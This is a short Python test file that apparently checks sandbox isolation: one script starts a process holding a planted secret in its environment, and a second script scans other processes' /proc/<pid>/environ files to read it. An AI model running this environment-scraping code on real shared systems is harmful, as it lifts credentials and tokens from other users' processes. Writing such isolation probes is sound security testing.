# weakness: host processes
# goal: read the environment of a program that another execution runs
# reached: "$SECRET"
# refused: none
import subprocess
import time

import _mce_host

subprocess.Popen(["/bin/sleep", "80"], env={"ATTACKED": "$SECRET"})
time.sleep(0.3)
_mce_host.call("test", "ready", {})
time.sleep(80)
# --- beside ---
from attack import others


def search() -> str:
    for process in others():
        try:
            with open(f"/proc/{process}/environ", "rb") as file:
                for variable in file.read().split(b"\0"):
                    if variable.startswith(b"ATTACKED="):
                        return variable[9:].decode()
        except OSError:
            continue
    return "none"


result = search()
